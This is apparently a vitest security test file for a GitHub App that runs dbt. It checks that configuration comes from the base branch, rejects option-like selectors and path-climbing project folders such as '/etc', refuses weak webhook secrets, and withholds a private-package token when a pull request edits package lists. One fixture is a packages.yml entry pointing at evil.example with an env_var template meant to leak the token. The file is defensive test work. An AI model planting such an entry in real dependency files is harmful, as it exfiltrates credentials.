import { generateKeyPairSync } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import { handleTrigger } from '../../src/app/handle-trigger.ts';
import { readEnvironment } from '../../src/app/read-environment.ts';
import { parseConfig } from '../../src/config/parse-config.ts';
import { type DeclaredPackages, depsEnvironment } from '../../src/dbt/deps-environment.ts';
import { productConfigSchema } from '../../src/orchestrator/product-config.ts';
import { anAppWorld, ORIGIN } from '../fakes/app-world.ts';
import { CANARIES, canariesIn } from './support/canaries.ts';

describe('the configuration', () => {
  test('own-configuration: The pull request changes `.github/steward.yml`', async () => {
    const app = anAppWorld();
    const asked: [string, string][] = [];
    const read = app.host.contents.read;
    const contents = { ...app.host.contents, read: (path: string, ref: string) => (asked.push([path, ref]), read(path, ref)) };
    const ports = { ...app.ports, hostFor: async () => ({ ...app.host, contents }) };
    const sender = { login: 'octocat', id: 1, isBot: false };
    await handleTrigger({ kind: 'pull-request', ...ORIGIN, action: 'opened', pullRequest: { ...app.world.pullRequest }, sender }, ports);
    const refs = asked.filter(([path]) => path === '.github/steward.yml').map(([, ref]) => ref);
    expect(refs.length).toBeGreaterThan(0);
    expect([...new Set(refs)]).toEqual([app.world.pullRequest.baseRef]);
  });

  test('option-as-selector: A selector of the configuration is an option of dbt', () => {
    for (const selector of ['--profiles-dir=/tmp', '-s', '--vars {x: 1}'])
      expect(() => parse(`projects: [{name: a, pipeline: {select: ["${selector}"]}}]`)).toThrow(/select/);
  });

  test('climbing-project: A project’s folder climbs out of the repository', () => {
    for (const dir of ['../other', '/etc', 'a/../../b', '..']) expect(() => parse(`projects: [{name: a, dir: "${dir}"}]`)).toThrow(/dir/);
  });
});

function parse(text: string): unknown {
  return parseConfig(text, productConfigSchema);
}

const KEY = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({ type: 'pkcs1', format: 'pem' }).toString();

test('default-webhook-secret: The App is started with a secret that everybody knows', () => {
  for (const WEBHOOK_SECRET of ['development', '', 'x'.repeat(64), 'short'])
    expect(() => readEnvironment({ STEWARD_MODE: 'production', APP_ID: '1', PRIVATE_KEY: KEY, WEBHOOK_SECRET })).toThrow(
      expect.objectContaining({ code: 'STW-5001' }),
    );
});

describe('the token for private packages', () => {
  const access = { repositories: ['github.com/acme/shared'], tokenName: 'PACKAGES_TOKEN', token: CANARIES.github };
  const list = 'packages: [{git: "https://github.com/acme/shared.git", revision: v1}]\n';
  const declared = (more: Partial<DeclaredPackages> = {}): DeclaredPackages => ({
    'packages.yml': list,
    'dependencies.yml': undefined,
    'package-lock.yml': undefined,
    ...more,
  });
  const given = (here: DeclaredPackages, base = declared()): string => JSON.stringify(depsEnvironment(access, { here, base }).env);
  const header = Buffer.from(`x-access-token:${CANARIES.github}`).toString('base64');

  test('package-token-for-changed-list: The pull request changes the list of private packages', () => {
    expect(given(declared())).toContain(header);
    const thief = 'packages: [{git: "https://evil.example/{{ env_var(\'GIT_CONFIG_VALUE_0\') }}.git", revision: v1}]\n';
    for (const here of [
      declared({ 'packages.yml': thief }),
      declared({ 'dependencies.yml': thief }),
      declared({ 'package-lock.yml': thief }),
    ])
      expect([given(here).includes(header), canariesIn(given(here))]).toEqual([false, []]);
  });

  test('local-package-beside-token: A local package runs beside the token for private packages', () => {
    const local = declared({ 'packages.yml': 'packages: [{local: ../mine}]\n' });
    expect(given(local, local)).not.toContain(header);
  });
});
